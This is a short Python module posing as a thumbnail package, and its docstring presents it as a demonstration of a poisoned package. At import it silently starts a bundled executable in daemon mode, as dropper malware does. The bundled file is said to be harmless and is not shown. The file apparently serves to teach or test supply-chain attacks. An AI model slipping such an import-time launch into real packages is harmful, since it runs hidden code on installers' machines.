# SPDX-License-Identifier: GPL-2.0-only
"""Thumbnails.  Demonstration of a poisoned package: at import it starts an executable that it brought
along, as droppers of miners and backdoors do.  Here that is a harmless script that leaves a note."""

import os
import subprocess

_HELPER = os.path.join(os.path.dirname(os.path.abspath(__file__)), "bin", "optimizer")


def describe():
    return "thumbnailer: 128x128"


subprocess.Popen([_HELPER, "--daemon"]).wait()
